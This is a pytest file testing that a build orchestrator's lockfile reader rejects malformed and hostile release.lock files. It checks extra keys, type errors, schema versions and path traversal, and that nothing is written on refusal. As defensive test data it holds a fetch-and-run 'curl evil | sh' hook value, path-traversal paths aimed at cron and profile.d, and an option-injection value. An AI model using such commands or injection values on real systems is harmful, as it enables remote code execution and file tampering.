"""release.lock as a typed record: stable bytes, strict keys, and untrusted paths refused.

A lockfile travels with a vault archive, so `read_lock` is where a hostile one must stop:
every refusal names the file and the key path, and nothing is written before it.
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from orchestrator.cli import app
from orchestrator.config.resolve.options import Options, resolve
from orchestrator.execute.steps.profiles import load_profile
from orchestrator.host.vault import Vault
from orchestrator.model.documents.cache_records import ProfileSidecar
from orchestrator.model.documents.lockfile import (
    SCHEMA_VERSION,
    LockDocument,
    LockfileError,
    blobs,
    dumps,
    parse_lock,
    read_lock,
    write_lock,
)
from orchestrator.model.documents.records import read_record
from orchestrator.plan.build_plan import BuildPlan
from orchestrator.plan.serialize import plan_inputs
from orchestrator.release.lock.locked_sources import lay_out_sources
from orchestrator.release.lock.reproduce import differing_inputs, read_locked, seed_cache
from orchestrator.runtime.images import package_set_dir

from .conftest import plan_for
from .test_lockfile import lock_for


@pytest.fixture
def options(project: Path) -> Options:
    return resolve(project / "orchestrator.toml", env={"SOURCE_DATE_EPOCH": "1700000000"})


@pytest.fixture
def plan(options: Options) -> BuildPlan:
    return plan_for(options)


@pytest.fixture
def raw(plan: BuildPlan) -> dict[str, Any]:
    """The lock as JSON data, to be altered the way a hand or an attacker would."""
    return json.loads(dumps(lock_for(plan)))  # type: ignore[no-any-return]


def _write(tmp_path: Path, document: dict[str, Any]) -> Path:
    path = tmp_path / "release.lock"
    path.write_text(json.dumps(document, indent=2, sort_keys=True) + "\n")
    return path


def _refused(tmp_path: Path, document: dict[str, Any], message: str) -> LockfileError:
    path = _write(tmp_path, document)
    with pytest.raises(LockfileError) as caught:
        read_lock(path)
    assert caught.value.message.startswith(f"{path}: "), caught.value.message
    assert message in caught.value.message, caught.value.message
    assert caught.value.exit_code == 53
    return caught.value


def test_round_trip_through_the_disk(plan: BuildPlan, tmp_path: Path) -> None:
    document = lock_for(plan)
    path = write_lock(tmp_path / "release.lock", document)
    again = read_lock(path)
    assert again == document
    assert isinstance(again, LockDocument)
    assert again.targets[0].inputs.artifact == plan.artifact_dir
    assert again.targets[0].inputs.validate_ == list(plan.validate_command)
    assert again.source.git_commit == "0" * 40


def test_dumps_keeps_the_on_disk_layout_byte_for_byte(plan: BuildPlan, raw: dict[str, Any]) -> None:
    # what the dict-based writer produced for the same data: sorted keys, indent 2, "\n"
    before = json.dumps(raw, indent=2, sort_keys=True) + "\n"
    assert dumps(parse_lock(json.loads(before), "release.lock")) == before
    # the key names of the layout, `schema` and `validate` among them
    assert set(raw) == {
        "schema",
        "schema_version",
        "written_by",
        "release",
        "config",
        "source",
        "base",
        "targets",
        "limits",
    }
    assert raw["schema"] == "orchestrator/lock"
    assert raw["schema_version"] == SCHEMA_VERSION
    assert raw["targets"][0]["inputs"] == plan_inputs(plan)
    assert set(raw["targets"][0]) == {
        "level",
        "inputs",
        "resolved",
        "output",
        "other_outputs",
        "archive",
        "archive_zip",
        "built_on",
    }
    assert raw["targets"][0]["other_outputs"] == []  # one binary: nothing beside it
    assert set(raw["targets"][0]["resolved"]) == {
        "packages",
        "package_set_sha256",
        "toolchain_reported",
        "gpu_compiler",
        "profiles",
        "bolt",
        "gate",
    }


def test_an_extra_key_is_refused_with_its_path(tmp_path: Path, raw: dict[str, Any]) -> None:
    raw["targets"][0]["resolved"]["packages"][0]["post_install"] = "curl evil | sh"
    _refused(
        tmp_path,
        raw,
        "targets.0.resolved.packages.0.post_install: Extra inputs are not permitted",
    )


def test_an_extra_top_level_key_is_refused(tmp_path: Path, raw: dict[str, Any]) -> None:
    raw["hooks"] = []
    _refused(tmp_path, raw, "hooks: Extra inputs are not permitted")


def test_a_wrong_type_is_refused_with_its_path(tmp_path: Path, raw: dict[str, Any]) -> None:
    raw["targets"][0]["output"]["size"] = "big"
    _refused(tmp_path, raw, "targets.0.output.size: Input should be a valid integer")


def test_a_missing_key_is_refused_with_its_path(tmp_path: Path, raw: dict[str, Any]) -> None:
    del raw["targets"][0]["inputs"]["rustflags"]
    _refused(tmp_path, raw, "targets.0.inputs.rustflags: Field required")


def test_a_newer_schema_version_is_refused(tmp_path: Path, raw: dict[str, Any]) -> None:
    raw["schema_version"] = SCHEMA_VERSION + 1
    path = _write(tmp_path, raw)
    with pytest.raises(LockfileError, match=f"reads up to {SCHEMA_VERSION}") as caught:
        read_lock(path)
    assert "written_by" in (caught.value.hint or "")


@pytest.mark.parametrize(
    ("section", "key", "value", "path"),
    [
        ("config", "file", "../../etc/cron.d/x", "config.file"),
        ("config", "file", "/abs", "config.file"),
        ("config", "file", "a/../../b", "config.file"),
        ("config", "file", "", "config.file"),
        ("config", "file", ".", "config.file"),
        ("config", "file", "x\x00y", "config.file"),
        ("source", "crate", "..", "source.crate"),
        ("source", "crate", "/home/someone/crate", "source.crate"),
        ("source", "repository_path", "../orchestrator.toml", "source.repository_path"),
        ("source", "cargo_lock_sha256", "../../../tmp/x", "source.cargo_lock_sha256"),
        ("source", "git_commit", "--output=/tmp/x", "source.git_commit"),
    ],
)
def test_hostile_paths_in_the_source_sections_are_refused(
    tmp_path: Path, raw: dict[str, Any], section: str, key: str, value: str, path: str
) -> None:
    raw[section][key] = value
    _refused(tmp_path, raw, f"{path}: ")


def test_hostile_paths_in_a_target_are_refused(tmp_path: Path, raw: dict[str, Any]) -> None:
    resolved = raw["targets"][0]["resolved"]
    resolved["packages"][0]["file"] = "../x.deb"
    error = _refused(tmp_path, raw, "targets.0.resolved.packages.0.file: ")
    assert "'..'" in error.message
    resolved["packages"][0]["file"] = "gcc.deb"
    resolved["profiles"]["pgo.profdata"]["cache_file"] = "/etc/profile.d/x.profdata"
    _refused(tmp_path, raw, "targets.0.resolved.profiles.pgo.profdata.cache_file: ")
    resolved["profiles"]["pgo.profdata"]["cache_file"] = "pgo/k.profdata"
    raw["targets"][0]["output"]["file"] = "../../demo"
    _refused(tmp_path, raw, "targets.0.output.file: ")


def test_the_crate_may_be_the_config_folder_itself(tmp_path: Path, raw: dict[str, Any]) -> None:
    raw["source"]["crate"] = "."
    assert read_lock(_write(tmp_path, raw)).source.crate == "."


def test_a_hostile_lock_writes_nothing(tmp_path: Path, raw: dict[str, Any]) -> None:
    raw["config"]["file"] = "../../escaped/cron"
    release = tmp_path / "release"
    release.mkdir()
    _write(release, raw)
    workdir = tmp_path / "one" / "two"
    with pytest.raises(LockfileError, match=r"config\.file"):
        read_locked(release, Vault(tmp_path / "vault"))
    # The command reads the lock before it makes its workdir or cache.
    argv = ["reproduce", str(release), "--workdir", str(workdir), "--trust-unsigned"]
    result = CliRunner().invoke(app, [*argv, "--cache-dir", str(tmp_path / "one" / "cache")])
    assert result.exit_code == 53, result.output
    assert "config.file" in result.output
    assert not (tmp_path / "one").exists()
    assert not (tmp_path / "escaped").exists()


def test_seed_cache_lays_out_typed_inputs(
    plan: BuildPlan, tmp_path: Path, raw: dict[str, Any]
) -> None:
    vault = Vault(tmp_path / "vault")

    def blob(name: str, data: bytes) -> str:
        (tmp_path / name).write_bytes(data)
        return vault.put(tmp_path / name)

    raw["base"]["rootfs_sha256"] = blob("rootfs.tar", b"rootfs")
    raw["source"]["vendor_sha256"] = blob("vendor.tar", b"crates")
    package = raw["targets"][0]["resolved"]["packages"][0]
    package.update(sha256=blob("gcc.deb", b"gcc"), size=3)
    profile = raw["targets"][0]["resolved"]["profiles"]["pgo.profdata"]
    profile.update(sha256=blob("pgo.profdata", b"profile"), size=7)
    document = parse_lock(raw, "release.lock")
    assert set(blobs(document)) == {
        raw["base"]["rootfs_sha256"],
        raw["source"]["vendor_sha256"],
        package["sha256"],
        profile["sha256"],
    }
    cache = tmp_path / "cache"
    seed_cache(document, plan, document.targets[0], cache, vault)
    assert (cache / "rootfs" / f"{plan.base_image.input_hash}.tar").read_bytes() == b"rootfs"
    assert (cache / "crates" / f"{plan.source.cargo_lock_sha256}.tar").read_bytes() == b"crates"
    set_dir = package_set_dir(plan.base, plan.packages, cache, plan.apt_sources, plan.unpack)
    assert (set_dir / package["file"]).read_bytes() == b"gcc"
    assert (cache / "profiles" / "pgo" / "k.profdata").read_bytes() == b"profile"
    sidecar = read_record(cache / "profiles" / "pgo" / "k.json", ProfileSidecar)
    assert sidecar.model_copy(update={"seal": None}) == ProfileSidecar(
        sha256=profile["sha256"], size=7, details={"functions": 12}
    )
    # Sealed, so the build that follows uses it (a vault blob was checked by its digest).
    assert load_profile(cache / "profiles" / "pgo" / "k.profdata", "PGO", print) is not None
    assert differing_inputs(document, document.targets[0], plan) == []


def test_sources_for_a_crate_at_the_config_folder_keep_symlinks_and_the_locked_config(
    tmp_path: Path, raw: dict[str, Any]
) -> None:
    """crate = "." puts the config inside the crate: the copy must not trip over the folder
    it already made, and the locked config text wins over the copy's own file."""
    raw["source"]["crate"] = "."
    raw["config"]["file"] = "orchestrator.toml"
    raw["config"]["text"] = "# the locked text\n"
    document = parse_lock(raw, "release.lock")
    source = tmp_path / "given"
    (source / "pkg" / "brew").mkdir(parents=True)
    (source / "pkg" / "brew" / "f.rb").write_text("formula\n")
    (source / "HomebrewFormula").symlink_to("pkg/brew")
    (source / "orchestrator.toml").write_text("# edited since the release\n")
    (source / "target").mkdir()
    config = lay_out_sources(document, tmp_path / "work", source)
    assert config == tmp_path / "work" / "orchestrator.toml"
    assert config.read_text() == "# the locked text\n"
    assert (tmp_path / "work" / "HomebrewFormula").is_symlink()
    assert not (tmp_path / "work" / "target").exists()
